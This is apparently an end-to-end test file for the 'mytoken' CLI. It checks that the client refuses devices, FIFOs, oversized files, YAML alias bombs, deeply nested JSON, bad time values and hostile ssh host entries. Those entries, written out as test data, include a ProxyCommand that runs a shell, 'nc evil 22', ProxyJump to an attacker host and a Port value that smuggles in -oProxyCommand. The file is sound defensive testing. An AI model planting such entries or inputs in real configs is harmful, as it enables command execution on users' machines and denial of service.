// e2e (scripted server): careless and hostile input (issue 11, items 8 and 10): a config file that
// is a device, a FIFO, too large or a YAML alias bomb; JSON nested a million deep or too large;
// time values that would make a dead or nonsense mytoken; a server's ssh host entry that would run
// commands; HOME unset. Each: a clear message, the exit status, nothing sent, nothing written.
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import {
  assertUntouched,
  bodyOf,
  freshHome,
  homeWithConfig,
  OPAQUE_MT,
  runAgainst,
  stubServerForFile,
  type StubRun,
  tokenFileFor,
  type TokenFile,
} from './stub-server.mjs';

const stub = stubServerForFile({ settings: true });
const ACCESS = '/api/v0/token/access';
const MY = '/api/v0/token/my';
const SSH = '/api/v0/settings/grants/ssh';

function tokenFile(): TokenFile {
  return tokenFileFor(stub.url, `${OPAQUE_MT}\n`);
}

/** Exit `status`, nothing on stdout, `message` on stderr, no stack trace, no request, the token file as it was. */
function assertRefusedInput(r: StubRun, t: TokenFile | undefined, status: number, message: RegExp, label: string): void {
  assert.equal(r.status, status, `${label}: exit status; stderr: ${r.stderr.slice(0, 2000)}`);
  assert.equal(r.stdout, '', `${label}: stdout`);
  assert.match(r.stderr, /^mytoken: /, `${label}: stderr`);
  assert.match(r.stderr, message, `${label}: stderr`);
  assert.doesNotMatch(r.stderr, /unexpected error|RangeError|ReferenceError|\n\s+at /, `${label}: a crash, not a message`);
  assert.ok(r.stderr.length < 2000, `${label}: ${r.stderr.length} characters on stderr`);
  assert.deepEqual(
    r.got.map((q) => `${q.method} ${q.path}`),
    [],
    `${label}: the client contacted the server before checking its input`,
  );
  if (t) assertUntouched(t);
}

/** `mytoken <global> AT --MT-file <token file>` with the config file `config`. */
async function atWithConfig(config: string, t = tokenFile()): Promise<StubRun & { t: TokenFile }> {
  const r = await runAgainst(stub, ['--config', config, 'AT', '--MT-file', t.file], { home: t.home });
  return { ...r, t };
}

/** `mytoken MT --MT-file <token file> ...args`. */
async function mt(args: string[], opts: { env?: Record<string, string | undefined>; t?: TokenFile } = {}): Promise<StubRun & { t: TokenFile }> {
  const t = opts.t ?? tokenFile();
  const r = await runAgainst(stub, ['MT', '--MT-file', t.file, ...args], { home: t.home, env: opts.env });
  return { ...r, t };
}

describe('11.8 the config file', () => {
  it('11.8 --config /dev/zero: status 2 at once, naming the file (no endless read)', async () => {
    const start = Date.now();
    const r = await atWithConfig('/dev/zero');
    assertRefusedInput(r, r.t, 2, /\/dev\/zero.*(device|not a file)/, '/dev/zero');
    assert.ok(Date.now() - start < 10_000, 'took too long');
  });

  it('11.8 --config a FIFO: status 2, no hang', async () => {
    const t = tokenFile();
    const fifo = join(t.home, 'config.fifo');
    execFileSync('mkfifo', [fifo]);
    const r = await atWithConfig(fifo, t);
    assertRefusedInput(r, t, 2, /config\.fifo.*(pipe|FIFO)/i, 'FIFO');
  });

  it('11.8 a FIFO where the config file is looked for (no --config): status 2, no hang', async () => {
    const t = tokenFile();
    const file = join(t.home, '.config', 'mytoken', 'config.yaml');
    execFileSync('rm', [file]);
    execFileSync('mkfifo', [file]);
    const r = await runAgainst(stub, ['AT', '--MT-file', t.file], { home: t.home });
    assertRefusedInput(r, t, 2, /config\.yaml.*(pipe|FIFO)/i, 'FIFO candidate');
  });

  it('11.8 --config a 2 MB file: status 2, too large', async () => {
    const t = tokenFile();
    const big = join(t.home, 'big.yaml');
    writeFileSync(big, `instance: "${stub.url}"\n${'# padding\n'.repeat(200_000)}`);
    const r = await atWithConfig(big, t);
    assertRefusedInput(r, t, 2, /big\.yaml.*larger than 1 MiB/, '2 MB');
  });

  it('11.8 --config /dev/null works as an empty config file', async () => {
    stub.on('POST', ACCESS, { status: 200, body: { access_token: 'at-from-stub' } });
    const t = tokenFile();
    const r = await runAgainst(stub, ['--config', '/dev/null', '--url', stub.url, 'AT', '--MT-file', t.file], { home: t.home });
    assert.equal(r.status, 0, r.stderr);
    assert.equal(r.stdout, 'at-from-stub\n');
    assertUntouched(t);
  });

  it('11.8 a YAML alias bomb (billion laughs): status 2 naming the file, no stack trace', async () => {
    const t = tokenFile();
    const lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
    const names = 'abcdefghij';
    for (let i = 1; i < names.length; i++) lines.push(`${names[i]}: &${names[i]} [${Array(9).fill(`*${names[i - 1]}`).join(',')}]`);
    const bomb = join(t.home, 'bomb.yaml');
    writeFileSync(bomb, `instance: "${stub.url}"\n${lines.join('\n')}\n`);
    const start = Date.now();
    const r = await atWithConfig(bomb, t);
    assertRefusedInput(r, t, 2, /bomb\.yaml.*alias/i, 'alias bomb');
    assert.ok(Date.now() - start < 10_000, 'took too long');
  });

  it('11.8 YAML brackets nested a million deep: status 2 naming the file, quickly', async () => {
    const t = tokenFile();
    const deep = join(t.home, 'deep.yaml');
    writeFileSync(deep, `a: ${'['.repeat(1_000_000)}`);
    const start = Date.now();
    const r = await atWithConfig(deep, t);
    assertRefusedInput(r, t, 2, /deep\.yaml.*deep/i, 'deep YAML');
    assert.ok(Date.now() - start < 10_000, 'took too long');
  });
});

describe('11.8 JSON in --restrictions, --rotation, --profile', () => {
  const OPEN = '['.repeat(1_000_000);

  it('11.8 a --restrictions file of 1,000,000 "[": status 2 naming the file, no RangeError', async () => {
    const t = tokenFile();
    writeFileSync(join(t.home, 'deep.json'), OPEN);
    const r = await mt(['--restrictions', './deep.json'], { t });
    assertRefusedInput(r, t, 2, /deep\.json.*nested more than 64/, 'deep file');
  });

  it('11.8 a --restrictions file of balanced brackets 500,000 deep (valid JSON): status 2, no RangeError', async () => {
    const t = tokenFile();
    writeFileSync(join(t.home, 'deep.json'), `${'['.repeat(500_000)}${']'.repeat(500_000)}`);
    const r = await mt(['--restrictions', './deep.json'], { t });
    assertRefusedInput(r, t, 2, /deep\.json.*nested more than 64/, 'balanced deep file');
  });

  it('11.8 inline deep JSON in --restrictions, MYTOKEN_RESTRICTIONS, --rotation and --profile: status 2 naming the source', async () => {
    const deep = `${'['.repeat(60_000)}${']'.repeat(60_000)}`;
    const open = '[{"a":'.repeat(20_000);
    for (const [args, env, where] of [
      [['--restrictions', deep], {}, /--restrictions/],
      [['--restrictions', open], {}, /--restrictions/],
      [[], { MYTOKEN_RESTRICTIONS: deep }, /MYTOKEN_RESTRICTIONS/],
      [['--rotation', `{"include":${deep}}`], {}, /--rotation/],
      [['--profile', `{"tags":${deep}}`], {}, /--profile/],
    ] as const) {
      const r = await mt([...args], { env });
      assertRefusedInput(r, r.t, 2, new RegExp(`${where.source}.*nested more than 64`), `${args[0] ?? Object.keys(env)[0]}`);
    }
  });

  it('11.8 deep JSON in --capability: status 2 naming the flag', async () => {
    const r = await mt(['--capability', `${'['.repeat(100_000)}`]);
    assertRefusedInput(r, r.t, 2, /--capability.*nested more than 64/, '--capability');
  });

  it('11.8 ssh add /dev/zero and a FIFO as the key file: status 2 at once, no endless read', async () => {
    const home = homeWithConfig(stub.url);
    const fifo = join(home, 'key.pub');
    execFileSync('mkfifo', [fifo]);
    for (const [file, why] of [['/dev/zero', /is a device/], [fifo, /named pipe/]] as const) {
      const r = await runAgainst(stub, ['settings', 'grants', 'ssh', 'add', file, '--MT', OPAQUE_MT], { home });
      assertRefusedInput(r, undefined, 2, why, file);
    }
  });

  it('11.8 --rotation file of 1,000,000 "[": status 2 naming the file', async () => {
    const t = tokenFile();
    writeFileSync(join(t.home, 'rot.json'), OPEN);
    const r = await mt(['--rotation', './rot.json'], { t });
    assertRefusedInput(r, t, 2, /rot\.json.*nested more than 64/, 'deep rotation file');
  });

  it('11.8 a --restrictions file over 1 MiB, a FIFO and a device: status 2 naming the file, no hang', async () => {
    const t = tokenFile();
    writeFileSync(join(t.home, 'big.json'), `[${'{"usages_AT":1},'.repeat(70_000)}{}]`);
    const big = await mt(['--restrictions', './big.json'], { t });
    assertRefusedInput(big, t, 2, /big\.json.*larger than 1 MiB/, 'big file');
    execFileSync('mkfifo', [join(t.home, 'r.fifo')]);
    const fifo = await mt(['--restrictions', './r.fifo'], { t });
    assertRefusedInput(fifo, t, 2, /r\.fifo.*(pipe|FIFO)/i, 'FIFO');
    const dev = await mt(['--rotation', '/dev/zero'], { t });
    assertRefusedInput(dev, t, 2, /\/dev\/zero.*device/, 'device');
  });

  it('11.8 an error message quotes at most a little of a huge value', async () => {
    const r = await mt(['--restrictions', `[[${'1,'.repeat(50_000)}1]]`]);
    assertRefusedInput(r, r.t, 2, /clause/, 'huge clause');
  });
});

describe('11.8 time values that make no sense', () => {
  for (const value of ['+-1d', '++1d', '+-5', '-1', '+0.0000000001s', '+0', '+0s', '+99999999999999999999y', '253402300800', '99999999999999999999']) {
    it(`11.8 --exp ${value}: status 2 naming the value, nothing sent`, async () => {
      const r = await mt(['--exp', value]);
      assertRefusedInput(r, r.t, 2, new RegExp(`"${value.replace(/[+.]/g, '\\$&')}"`), value);
    });
  }

  it('11.8 the same in JSON (numbers and strings) and for --nbf: status 2', async () => {
    for (const args of [
      ['--nbf', '+-1h'],
      ['--restrictions', '{"exp":"+-1d"}'],
      ['--restrictions', '{"exp":-1}'],
      ['--restrictions', '{"exp":1e300}'],
      ['--restrictions', '[{"scope":"a"},{"nbf":"+0s"}]'],
    ]) {
      const r = await mt(args);
      assertRefusedInput(r, r.t, 2, /nbf|exp|time/, args.join(' '));
    }
  });

  it('11.8 good values still work: +1d, 0 (not set) and a JSON exp', async () => {
    stub.on('POST', MY, { status: 200, body: { mytoken: 'new-mytoken', mytoken_type: 'token', expires_in: 0 } });
    const t0 = Math.floor(Date.now() / 1000);
    const ok = await mt(['--exp', '+1d', '--nbf', '0']);
    const t1 = Math.floor(Date.now() / 1000);
    assert.equal(ok.status, 0, ok.stderr);
    const sent = bodyOf(ok.got.find((q) => q.path === MY)!) as { restrictions: { exp: number; nbf?: number }[] };
    // the client read its clock between t0 and t1
    const exp = sent.restrictions[0]!.exp;
    assert.ok(exp >= t0 + 86400 && exp <= t1 + 86400, `${exp} not in [${t0 + 86400}, ${t1 + 86400}]`);
    assert.equal(sent.restrictions[0]!.nbf, undefined);
  });
});

// ---- the ssh grant's host entry (11.10) -----------------------------------------------------------

const BLOB = Buffer.concat([Buffer.from([0, 0, 0, 11]), Buffer.from('ssh-ed25519'), Buffer.from([0, 0, 0, 32]), Buffer.alloc(32, 7)]).toString('base64');
const KEY = `ssh-ed25519 ${BLOB} me@laptop`;
const GOOD =
  '# Host entry for mytoken\nHost mytoken-laptop\n\tHostName 127.0.0.1\n\tPort 2222\n\tUser a8Kd02JxQm7ZpL1s\n' +
  '\t# If you use a non-default ssh key for this entry, update the following line\n\t# IdentityFile ~/.ssh/your.key\n';

function scriptAdd(entry: string): void {
  stub.on('POST', SSH, (q) => {
    if (bodyOf(q).grant_type === 'mytoken') return { status: 200, body: { consent_uri: `${stub.url}/c/xyz`, polling_code: 'P', expires_in: 30, interval: 1 } };
    return { status: 200, body: { ssh_user: 'a8Kd02JxQm7ZpL1s', ssh_host_config: entry } };
  });
}

describe('11.10 the ssh host entry a server sends', () => {
  const hostile: [string, string, RegExp][] = [
    ['ProxyCommand', `${GOOD}\tProxyCommand sh -c 'touch /tmp/pwned'\n`, /line 8.*ProxyCommand/],
    ['LocalCommand', 'Host mytoken\n\tHostName h\n\tPermitLocalCommand yes\n\tLocalCommand id\n', /line 3.*PermitLocalCommand/],
    ['Match', 'Host mytoken\n\tHostName h\nMatch all\n\tProxyJump evil\n', /line 3.*Match/],
    ['Include', 'Include /tmp/x\nHost mytoken\n', /line 1.*Include/],
    ['a second Host', 'Host mytoken\n\tHostName h\nHost github.com\n\tHostName evil.example\n', /line 3.*Host/],
    ['Host *', 'Host *\n\tHostName evil.example\n', /line 1.*Host/],
    ['a key before Host', 'HostName evil.example\nHost mytoken\n', /line 1.*HostName/],
    ['two patterns on the Host line', 'Host mytoken-my laptop\n\tHostName h\n', /line 1.*Host/],
    ['a % token', 'Host mytoken\n\tHostName %h.evil.example\n', /line 2.*HostName/],
    ['a port that is no number', 'Host mytoken\n\tPort 22 -oProxyCommand=x\n', /line 2.*Port/],
    ['key=value with a command', 'Host mytoken\n\tProxyCommand=nc evil 22\n', /line 2.*ProxyCommand/],
    ['a control character', 'Host mytoken\n\tUser u\x1b[2K\n', /line 2/],
    ['a carriage return', 'Host mytoken\r\n\tUser u\n', /line 1/],
  ];
  for (const [what, entry, line] of hostile) {
    it(`11.10 ssh add with ${what} in the entry: nothing written to ~/.ssh/config, the entry on stderr with the line named, status 1`, async () => {
      scriptAdd(entry);
      const home = homeWithConfig(stub.url);
      mkdirSync(join(home, '.ssh'), { mode: 0o700 });
      writeFileSync(join(home, '.ssh', 'config'), 'Host mine\n\tHostName example.org\n', { mode: 0o600 });
      const r = await runAgainst(stub, ['settings', 'grants', 'ssh', 'add', KEY, '--MT', OPAQUE_MT], { home });
      assert.equal(r.status, 1, r.stderr);
      assert.match(r.stdout, /^Successfully added ssh key\n/);
      assert.doesNotMatch(r.stdout, /We added a host entry/);
      assert.match(r.stderr, /^mytoken: /m);
      assert.match(r.stderr, line);
      assert.match(r.stderr, /not (written|added)/);
      assert.match(r.stderr, /still registered|stays registered|key is added/);
      assert.doesNotMatch(r.stderr, /\x1b/, 'a control character from the server reached the terminal');
      assert.equal(readFileSync(join(home, '.ssh', 'config'), 'utf8'), 'Host mine\n\tHostName example.org\n');
      assert.ok(!existsSync('/tmp/pwned') || what !== 'ProxyCommand');
    });
  }

  it('11.10 ssh add --no-write-host-entry with a hostile entry: not printed as advice, status 1', async () => {
    scriptAdd(`${GOOD}\tProxyCommand nc evil 22\n`);
    const r = await runAgainst(stub, ['settings', 'grants', 'ssh', 'add', KEY, '--no-write-host-entry', '--MT', OPAQUE_MT]);
    assert.equal(r.status, 1, r.stderr);
    assert.doesNotMatch(r.stdout, /You might want to add/);
    assert.match(r.stderr, /line 8.*ProxyCommand/);
  });

  it('11.10 a good entry (the spec\'s form, with comments) is still appended', async () => {
    scriptAdd(GOOD);
    const home = homeWithConfig(stub.url);
    const r = await runAgainst(stub, ['settings', 'grants', 'ssh', 'add', KEY, '--MT', OPAQUE_MT], { home });
    assert.equal(r.status, 0, r.stderr);
    assert.match(r.stdout, /We added a host entry/);
    assert.equal(readFileSync(join(home, '.ssh', 'config'), 'utf8'), `\n${GOOD}\n`);
  });

  for (const [what, home] of [
    ['unset', undefined],
    ['empty', ''],
    ['a relative path', 'rel'],
  ] as const) {
    it(`11.10 ssh add with HOME ${what}: status 2 before anything is sent, nothing written to ./.ssh`, async () => {
      scriptAdd(GOOD);
      const cwd = freshHome();
      const config = join(cwd, 'config.yaml');
      writeFileSync(config, `instance: "${stub.url}"\n`);
      const r = await runAgainst(stub, ['settings', 'grants', 'ssh', 'add', KEY, '--MT', OPAQUE_MT], {
        home: cwd,
        env: { HOME: home, MYTOKEN_CONFIG: config },
      });
      assertRefusedInput(r, undefined, 2, /HOME/, `HOME ${what}`);
      assert.match(r.stderr, /--no-write-host-entry/);
      assert.equal(existsSync(join(cwd, '.ssh')), false, './.ssh was created');
      // a relative HOME is no home: nothing (not even a cache) is written under the working folder
      assert.equal(existsSync(join(cwd, 'rel')), false, './rel was created');
    });
  }

  it('11.10 ssh add --no-write-host-entry with HOME unset still works', async () => {
    scriptAdd(GOOD);
    const cwd = freshHome();
    const config = join(cwd, 'config.yaml');
    writeFileSync(config, `instance: "${stub.url}"\n`);
    const r = await runAgainst(stub, ['settings', 'grants', 'ssh', 'add', KEY, '--no-write-host-entry', '--MT', OPAQUE_MT], {
      home: cwd,
      env: { HOME: undefined, MYTOKEN_CONFIG: config },
    });
    assert.equal(r.status, 0, r.stderr);
    assert.ok(r.stdout.includes(GOOD));
  });
});

describe('11.10 ~ without HOME', () => {
  it('11.10 --config ~/x.yaml, --restrictions ~/r.json and --rotation ~/r.json with HOME unset: status 2 saying HOME is not set', async () => {
    const t = tokenFile();
    writeFileSync(join(t.home, 'cfg.yaml'), `instance: "${stub.url}"\n`);
    for (const [args, env] of [
      [['--config', '~/cfg.yaml', 'AT', '--MT-file', t.file], { HOME: undefined }],
      [['MT', '--MT-file', t.file, '--restrictions', '~/r.json'], { HOME: undefined, MYTOKEN_CONFIG: join(t.home, 'cfg.yaml') }],
      [['MT', '--MT-file', t.file, '--rotation', '~/r.json'], { HOME: '', MYTOKEN_CONFIG: join(t.home, 'cfg.yaml') }],
    ] as const) {
      const r = await runAgainst(stub, [...args], { home: t.home, env });
      assertRefusedInput(r, t, 2, /~.*HOME is not set/, args.join(' '));
    }
  });
});
